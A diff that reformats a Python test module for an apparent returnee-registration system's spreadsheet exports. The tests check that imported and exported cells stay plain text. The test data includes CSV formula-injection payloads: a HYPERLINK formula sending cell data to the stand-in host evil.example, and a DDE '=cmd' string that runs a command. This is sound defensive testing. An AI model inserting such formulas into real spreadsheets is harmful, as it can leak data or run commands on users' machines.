@@ -24,12 +24,22 @@ async def health_code_system(db) -> tuple[str, str]:
     from zhengding.returnees.service import inbound
 
     async with db.unit_of_work() as session:
-        source, secret = await inbound.add_source(session, f"健康码系统-导出-{os.getpid()}-{os.urandom(3).hex()}")
+        source, secret = await inbound.add_source(
+            session, f"健康码系统-导出-{os.getpid()}-{os.urandom(3).hex()}"
+        )
         return source.key_id, secret
 
 
-HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"点我")', "=1+1", "+86 139 0000 0000", "-2+3",
-           "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "=cmd|' /C calc'!A0"]
+HOSTILE = [
+    '=HYPERLINK("http://evil.example/?x="&A1,"点我")',
+    "=1+1",
+    "+86 139 0000 0000",
+    "-2+3",
+    "@SUM(A1:A9)",
+    "\t=1+1",
+    "\r=1+1",
+    "=cmd|' /C calc'!A0",
+]
 PLAIN = ["张三", "海口市秀英区", "1+1=2", "a=b"]
 
 
@@ -49,8 +59,11 @@ def quote_prefixed_styles(content: bytes) -> set[int]:
         styles = archive.read("xl/styles.xml").decode()
     xfs = re.search(r"<cellXfs[^>]*>(.*?)</cellXfs>", styles, re.S)
     assert xfs is not None
-    return {i for i, xf in enumerate(re.findall(r"<xf [^>]*?(?:/>|>.*?</xf>)", xfs.group(1), re.S))
-            if 'quotePrefix="1"' in xf}
+    return {
+        i
+        for i, xf in enumerate(re.findall(r"<xf [^>]*?(?:/>|>.*?</xf>)", xfs.group(1), re.S))
+        if 'quotePrefix="1"' in xf
+    }
 
 
 def cells_by_style(content: bytes) -> dict[str, int]:
@@ -78,7 +91,7 @@ class TestSheetBook:
         assert_no_formula(content)
         rows = rows_of(content)
         assert rows[0] == rows[1] == rows[2] == HOSTILE
-        assert rows[3][:len(PLAIN)] == PLAIN
+        assert rows[3][: len(PLAIN)] == PLAIN
         quoted = quote_prefixed_styles(content)
         styles = cells_by_style(content)
         for r in (1, 2, 3):
@@ -97,17 +110,22 @@ class TestSheetBook:
 
 
 class TestExports:
-    async def test_the_verification_import_report_keeps_hostile_headers_and_cells_as_text(self, client,
-                                                                                          personas: Personas):
+    async def test_the_verification_import_report_keeps_hostile_headers_and_cells_as_text(
+        self, client, personas: Personas
+    ):
         header = ["姓名", "身份证号", "手机号", "线索地址", HOSTILE[0]]
         rows = [["=1+1", "123", "", "@SUM(A1:A9)", "-2+3"]]  # rejected: bad ID number
         from tests.core.test_input_hygiene import _csv
 
-        r = await client.post("/api/verification/imports", headers=personas.province.headers,
-                              files={"file": ("x.csv", _csv(header, rows), "text/csv")})
+        r = await client.post(
+            "/api/verification/imports",
+            headers=personas.province.headers,
+            files={"file": ("x.csv", _csv(header, rows), "text/csv")},
+        )
         assert r.status_code == 200, r.text
-        report = await client.get(f"/api/verification/batches/{r.json()['batch_id']}/report",
-                                  headers=personas.province.headers)
+        report = await client.get(
+            f"/api/verification/batches/{r.json()['batch_id']}/report", headers=personas.province.headers
+        )
         assert report.status_code == 200
         assert_no_formula(report.content)
         sheet = rows_of(report.content)
@@ -117,28 +135,42 @@ class TestExports:
     async def test_the_nat_import_report_keeps_hostile_cells_as_text(self, client, personas: Personas):
         from tests.core.test_input_hygiene import _csv
 
-        content = _csv(["身份证号", "姓名", "采样时间", "检测结果", "检测机构"],
-                       [["=1+1", "@SUM(A1)", "2022-01-20 08:30", "+", "-1"], [new_id_number(), "=x", "昨天", "阴性", "=A1"]])
-        r = await client.post("/api/verification/nat-results/import", headers=personas.province.headers,
-                              files={"file": ("nat.csv", content, "text/csv")})
+        content = _csv(
+            ["身份证号", "姓名", "采样时间", "检测结果", "检测机构"],
+            [
+                ["=1+1", "@SUM(A1)", "2022-01-20 08:30", "+", "-1"],
+                [new_id_number(), "=x", "昨天", "阴性", "=A1"],
+            ],
+        )
+        r = await client.post(
+            "/api/verification/nat-results/import",
+            headers=personas.province.headers,
+            files={"file": ("nat.csv", content, "text/csv")},
+        )
         assert r.status_code == 200, r.text
         assert r.json()["rejected"] == 2
-        report = await client.get(f"/api/verification/nat-results/imports/{r.json()['import_id']}/report",
-                                  headers=personas.province.headers)
+        report = await client.get(
+            f"/api/verification/nat-results/imports/{r.json()['import_id']}/report",
+            headers=personas.province.headers,
+        )
         assert report.status_code == 200, report.text
         assert_no_formula(report.content)
         sheet = rows_of(report.content)
-        assert [row[:5] for row in sheet[1:]] == [["=1+1", "@SUM(A1)", "2022-01-20 08:30", "+", "-1"],
-                                                  [sheet[2][0], "=x", "昨天", "阴性", "=A1"]]
+        assert [row[:5] for row in sheet[1:]] == [
+            ["=1+1", "@SUM(A1)", "2022-01-20 08:30", "+", "-1"],
+            [sheet[2][0], "=x", "昨天", "阴性", "=A1"],
+        ]
 
-    async def test_the_returnee_export_keeps_hostile_text_as_text(self, health_code_system, client,
-                                                                   personas: Personas):
+    async def test_the_returnee_export_keeps_hostile_text_as_text(
+        self, health_code_system, client, personas: Personas
+    ):
         sender = Sender(client, *health_code_system)
-        port = "=HYPERLINK(\"http://evil\")" + os.urandom(4).hex()
+        port = '=HYPERLINK("http://evil")' + os.urandom(4).hex()
         r = await sender.one(registration(port_of_entry=port, transport_no="+86-1"))
         assert r.status_code == 201, r.text
-        exported = await client.get("/api/returnees/export", params={"port_of_entry": port},
-                                    headers=personas.town.headers)
+        exported = await client.get(
+            "/api/returnees/export", params={"port_of_entry": port}, headers=personas.town.headers
+        )
         assert exported.status_code == 200, exported.text
         assert_no_formula(exported.content)
         rows = rows_of(exported.content)
@@ -152,6 +184,9 @@ def test_every_xlsx_is_written_through_sheetwriter():
     from pathlib import Path
 
     src = Path(__file__).resolve().parents[2] / "src" / "zhengding"
-    writers = sorted(str(p.relative_to(src)) for p in src.rglob("*.py")
-                     if re.search(r"^\s*(import xlsxwriter|from xlsxwriter)", p.read_text(encoding="utf-8"), re.M))
+    writers = sorted(
+        str(p.relative_to(src))
+        for p in src.rglob("*.py")
+        if re.search(r"^\s*(import xlsxwriter|from xlsxwriter)", p.read_text(encoding="utf-8"), re.M)
+    )
     assert writers == ["core/sheetwriter.py"]
